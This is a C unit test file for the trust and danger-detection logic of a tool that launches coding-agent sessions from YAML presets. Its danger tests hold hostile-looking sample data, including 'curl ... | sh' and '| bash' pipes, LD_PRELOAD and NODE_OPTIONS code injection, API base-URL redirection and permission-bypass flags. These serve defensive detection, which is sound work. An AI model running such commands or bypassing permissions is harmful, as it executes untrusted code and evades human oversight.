/* SPDX-License-Identifier: MIT */
#include "config/trust.h"

#include "base/cleanup.h"
#include "base/fd.h"
#include "base/path.h"
#include "base/text.h"

#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

static struct preset *parse(const char *text) {
    struct diagnostics problems;
    diagnostics_init(&problems, "f");
    struct preset *preset = preset_parse(text, strlen(text), "/w/sessions.yaml", &problems);
    char *said = diagnostics_format(&problems);
    assert_string_equal(said, "");
    free(said);
    diagnostics_finish(&problems);
    return preset;
}

static void trust_is_for_this_file_as_it_stands(void **state) {
    char directory[] = "/tmp/stoa-test-trust-XXXXXX";
    assert_non_null(mkdtemp(directory));
    OWNED_STR inner = path_join(directory, "state");
    OWNED_STR store = path_join(inner, "trusted.list");
    OWNED(preset) first = parse("sessions: [a]\n");
    OWNED(preset) changed = parse("sessions: [b]\n");
    struct error err;

    assert_false(trust_is_given(store, first));
    assert_true(trust_give(store, first, &err));
    assert_true(trust_is_given(store, first));
    assert_false(trust_is_given(store, changed));
    assert_true(trust_give(store, changed, &err));
    assert_true(trust_give(store, first, &err));
    assert_true(trust_is_given(store, first));
    assert_true(trust_is_given(store, changed));

    struct stat status;
    assert_int_equal(stat(store, &status), 0);
    assert_int_equal(status.st_mode & 0777, 0600);
    struct buffer bytes = { 0 };
    assert_true(file_read(store, 10000, &bytes, &err));
    OWNED_STR expected =
            text_format("%s /w/sessions.yaml\n%s /w/sessions.yaml\n", changed->hash, first->hash);
    assert_string_equal(buffer_text(&bytes), expected);
    buffer_finish(&bytes);
    unlink(store);
    rmdir(inner);
    rmdir(directory);
}

/* What is written into a scratch directory, and the preset that names it. */
struct place {
    char directory[64];
    char *store;
};

static void write_in(const struct place *place, const char *name, const char *text, mode_t mode) {
    OWNED_STR path = path_join(place->directory, name);
    assert_true(file_replace(path, text, strlen(text), NULL));
    assert_int_equal(chmod(path, mode), 0);
}

static struct preset *parse_in(const struct place *place, const char *text) {
    struct diagnostics problems;
    diagnostics_init(&problems, "f");
    OWNED_STR path = path_join(place->directory, "sessions.yaml");
    struct preset *preset = preset_parse(text, strlen(text), path, &problems);
    assert_true(diagnostics_are_empty(&problems));
    diagnostics_finish(&problems);
    return preset;
}

static void open_place(struct place *place) {
    snprintf(place->directory, sizeof(place->directory), "/tmp/stoa-test-trust-XXXXXX");
    assert_non_null(mkdtemp(place->directory));
    place->store = path_join(place->directory, "trusted.list");
}

static int remove_one(const char *path, const struct stat *about, int flag, struct FTW *ftw) {
    return remove(path);
}

static void close_place(struct place *place) {
    assert_int_equal(nftw(place->directory, remove_one, 8, FTW_DEPTH | FTW_PHYS), 0);
    free(place->store);
}

/* What is lost when this file is written (NULL: removed) after the preset was trusted. */
static void check_lost(const struct place *place, const char *preset_text, const char *name,
        const char *text, const char *expected) {
    OWNED(preset) preset = parse_in(place, preset_text);
    assert_true(trust_give(place->store, preset, NULL));
    assert_true(trust_is_given(place->store, preset));
    assert_null(trust_lost_by(place->store, preset));
    OWNED_STR path = path_join(place->directory, name);
    if (text == NULL) {
        assert_int_equal(unlink(path), 0);
    } else {
        write_in(place, name, text, 0755);
    }
    OWNED_STR lost = trust_lost_by(place->store, preset);
    if (expected == NULL) {
        assert_null(lost);
    } else {
        assert_non_null(lost);
        assert_string_equal(lost, expected);
    }
    assert_int_equal(trust_is_given(place->store, preset), expected == NULL);
    assert_true(trust_give(place->store, preset, NULL));
    assert_true(trust_is_given(place->store, preset));
}

static void files_that_decide_what_runs_are_part_of_it(void **state) {
    static const struct {
        const char *preset, *name, *text, *expected;
    } rows[] = {
        { "sessions: [{agent: claude, settings: s.json}]", "s.json", "{}",
                "'s.json' was not there before" },
        { "sessions: [{agent: claude, settings: s.json}]", "s.json", "{\"a\":1}",
                "'s.json' has changed" },
        { "sessions: [{agent: claude, settings: s.json}]", "s.json", NULL, "'s.json' is gone" },
        { "sessions: [{agent: claude, mcp-config: m.json}]", "m.json",
                "{\"mcpServers\":{\"x\":{\"command\":\"node\",\"args\":[\"-r\",\"server.js\"]}}}",
                "'m.json' was not there before, 'server.js' was not there before" },
        { "sessions: [{agent: claude, mcp-config: m.json}]", "server.js", "1",
                "'server.js' was not there before" },
        { "sessions: [{agent: claude, settings: {hooks: {Stop: [{hooks: [{type: command, "
          "command: '$CLAUDE_PROJECT_DIR/hook.sh now'}]}]}}}]",
                "hook.sh", "#!/bin/sh", "'hook.sh' was not there before" },
        { "sessions: [{agent: claude, settings: {statusLine: {command: "
          "'\"${CLAUDE_PROJECT_DIR}\"/line.sh'}}}]",
                "line.sh", "#!/bin/sh", "'line.sh' was not there before" },
        { "sessions: ['claude --mcp-config=n.json']", "n.json", "{}",
                "'n.json' was not there before" },
        { "sessions: [{command: [claude, --settings, t.json]}]", "t.json", "{}",
                "'t.json' was not there before" },
        { "sessions: ['./run.sh']", "run.sh", "#!/bin/sh", "'run.sh' was not there before" },
        { "sessions: ['./run.sh']", "run.sh", "#!/bin/sh -e", "'run.sh' has changed" },
        { "sessions: ['cd /; ./run.sh --now']", "run.sh", "#!/bin/bash", "'run.sh' has changed" },
        { "sessions: ['python3 -u tool.py']", "tool.py", "2", "'tool.py' was not there before" },
        { "sessions: ['python3 -m tool.py']", "tool.py", "3", NULL },
        { "sessions: [{command: cat, notify: 'sh ./run.sh'}]", "run.sh", "4",
                "'run.sh' has changed" },
        { "sessions: [{command: cat, env: {BASH_ENV: rc}}]", "rc", "5",
                "'rc' was not there before" },
        { "profiles: {p: {command: ./run.sh}}\nsessions: [cat]", "run.sh", "6",
                "'run.sh' has changed" },
        { "sessions: ['tail -f run.log']", "run.log", "7", NULL },
        { "sessions: ['cat ./plain']", "plain", "\177ELF", NULL },
    };
    struct place place;
    open_place(&place);
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        check_lost(&place, rows[i].preset, rows[i].name, rows[i].text, rows[i].expected);
    }
    close_place(&place);
}

static void files_of_roles_are_part_of_it(void **state) {
    struct place place;
    open_place(&place);
    setenv("XDG_CONFIG_HOME", place.directory, 1);
    OWNED_STR roles = path_join(place.directory, "stoa/roles");
    assert_true(path_make_directory(roles, NULL));
    write_in(&place, "stoa/roles/mine.yaml", "command: cat\n", 0644);
    check_lost(&place, "sessions: [{role: mine}]", "stoa/roles/mine.yaml", "command: top\n",
            "'stoa/roles/mine.yaml' has changed");
    unsetenv("XDG_CONFIG_HOME");
    close_place(&place);
}

static void too_many_files_are_not_trusted(void **state) {
    struct place place;
    struct buffer text = { 0 };
    struct error err = { 0 };
    open_place(&place);
    buffer_append_text(&text, "sessions:\n");
    for (int i = 0; i < 199; i++) {
        buffer_append_format(&text, "- {name: s%d, command: 'sh a%d; sh b%d'}\n", i, i, i);
    }
    OWNED(preset) preset = parse_in(&place, buffer_text(&text));
    assert_false(trust_give(place.store, preset, &err));
    assert_string_equal(err.text, "cannot trust a preset that names more than 200 files");
    buffer_finish(&text);
    close_place(&place);
}

static void the_oldest_trust_goes_first(void **state) {
    char directory[] = "/tmp/stoa-test-trust-XXXXXX";
    assert_non_null(mkdtemp(directory));
    OWNED_STR store = path_join(directory, "trusted.list");
    struct buffer lines = { 0 };
    for (int i = 0; i < TRUST_ENTRIES_MAX; i++) {
        buffer_append_format(&lines, "%064d /w/%d\n", i, i);
    }
    assert_true(file_replace(store, lines.data, lines.length, NULL));
    OWNED(preset) preset = parse("sessions: [a]\n");
    assert_true(trust_give(store, preset, NULL));
    buffer_clear(&lines);
    assert_true(file_read(store, 1000000, &lines, NULL));
    char first[80];
    snprintf(first, sizeof(first), "%064d /w/%d\n", 1, 1);
    assert_true(text_starts_with(buffer_text(&lines), first));
    size_t count = 0;
    for (size_t i = 0; i < lines.length; i++) {
        count += lines.data[i] == '\n' ? 1 : 0;
    }
    assert_int_equal(count, TRUST_ENTRIES_MAX);
    assert_true(trust_is_given(store, preset));
    buffer_finish(&lines);
    unlink(store);
    rmdir(directory);
}

/* "a: PATH=/x (decides …)" a line each. */
static void check_dangers(const char *text, const char *expected) {
    OWNED(preset) preset = parse(text);
    struct buffer out = { 0 };
    size_t count;
    struct preset_danger *dangers = preset_dangers(preset, &count);
    for (size_t i = 0; i < count; i++) {
        buffer_append_format(
                &out, "%s: %s (%s)\n", dangers[i].session, dangers[i].what, dangers[i].why);
    }
    assert_string_equal(buffer_text(&out), expected);
    preset_dangers_destroy(dangers, count);
    buffer_finish(&out);
}

static void dangers_are_found(void **state) {
    check_dangers("sessions: [htop, {name: a, env: {EDITOR: vi}}]\n", "");
    check_dangers("sessions: [{name: a, command: htop, notify: 'curl x.org | sh'}]\n",
            "a: notify: curl x.org | sh (runs unseen, outside of any pane)\n"
            "a: | sh (runs text as a program)\n");
    check_dangers("sessions: [{name: a, command: claude, env: {PATH: /x, LD_PRELOAD: /x.so, "
                  "ANTHROPIC_BASE_URL: http://h, ANTHROPIC_API_KEY: sk-1, MY_TOKEN: t, "
                  "NODE_OPTIONS: -r x}}]\n",
            "a: PATH=/x (decides which programs run)\n"
            "a: LD_PRELOAD=/x.so (puts code into every program)\n"
            "a: ANTHROPIC_BASE_URL=http://h (sends prompts and keys to another server)\n"
            "a: ANTHROPIC_API_KEY=(not shown) (changes what Claude Code talks to, or as whom)\n"
            "a: MY_TOKEN=(not shown) (is a secret, written in the file)\n"
            "a: NODE_OPTIONS=-r x (puts code into Node programs)\n");
    check_dangers("profiles: {p: {command: claude, args: [--dangerously-skip-permissions]}}\n"
                  "sessions:\n"
                  "  - {name: a, profile: p}\n"
                  "  - {name: b, command: claude --permission-mode bypassPermissions}\n"
                  "  - {name: c, command: claude --permission-mode=bypassPermissions}\n"
                  "  - {name: d, command: /usr/bin/sudo ls}\n"
                  "  - {name: e, command: 'cd /x && sudo make; curl http://h | bash -s'}\n"
                  "  - {name: f, command: [sh, -c, 'x=\"$(sudo id)\"']}\n"
                  "  - {name: g, command: echo pseudo sudoku}\n",
            "a: --dangerously-skip-permissions (skips all permissions)\n"
            "b: bypassPermissions (skips all permissions)\n"
            "c: --permission-mode=bypassPermissions (skips all permissions)\n"
            "d: /usr/bin/sudo (runs as another user)\n"
            "e: sudo (runs as another user)\n"
            "e: | bash (runs text as a program)\n"
            "f: sudo (runs as another user)\n");
}

static void a_description_is_whole_and_safe(void **state) {
    OWNED(preset)
    preset = parse("env: {T: \"\\e[2J\", API_KEY: secret}\n"
                   "sessions:\n"
                   "  - name: a\n"
                   "    command: [ls, \"-l x\", \"\\e]0;x\\a\"]\n"
                   "    cwd: sub\n"
                   "    task: Look\n"
                   "    prompt: |\n"
                   "      One\n"
                   "\n"
                   "      Two\n"
                   "    restart: always\n"
                   "    limits: {memory: 1G, cpu: 50, tasks: 9}\n"
                   "    recording: off\n");
    struct buffer out = { 0 };
    preset_describe(preset, &out);
    assert_string_equal(buffer_text(&out),
            "/w/sessions.yaml describes 1 session.\n"
            "\n"
            "Look at these first:\n"
            "  a: API_KEY=(not shown)  (is a secret, written in the file)\n"
            "\n"
            "  a: ls '-l x' '?]0;x?'\n"
            "    in /w/sub\n"
            "    task Look\n"
            "    env T=?[2J\n"
            "    env API_KEY=(not shown)\n"
            "    restart always\n"
            "    memory 1G\n"
            "    cpu 50%\n"
            "    tasks 9\n"
            "    recording off\n"
            "    prompt:\n"
            "      One\n"
            "      \n"
            "      Two\n");
    buffer_finish(&out);
}

static void what_several_sessions_share_is_told_once(void **state) {
    OWNED(preset)
    preset = parse("env: {LD_PRELOAD: /x}\n"
                   "sessions:\n"
                   "  - {name: a, command: sudo ls}\n"
                   "  - {name: b, command: ls}\n"
                   "  - {name: c, command: sudo -n sudo ls}\n");
    struct buffer out = { 0 };
    preset_describe(preset, &out);
    assert_non_null(
            strstr(buffer_text(&out), "\nLook at these first:\n"
                                      "  all: LD_PRELOAD=/x  (puts code into every program)\n"
                                      "  a, c: sudo  (runs as another user)\n\n"));
    buffer_finish(&out);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(files_of_roles_are_part_of_it),
        cmocka_unit_test(files_that_decide_what_runs_are_part_of_it),
        cmocka_unit_test(a_description_is_whole_and_safe),
        cmocka_unit_test(dangers_are_found),
        cmocka_unit_test(the_oldest_trust_goes_first),
        cmocka_unit_test(what_several_sessions_share_is_told_once),
        cmocka_unit_test(trust_is_for_this_file_as_it_stands),
        cmocka_unit_test(too_many_files_are_not_trusted),
    };
    return cmocka_run_group_tests_name("trust", tests, NULL, NULL);
}
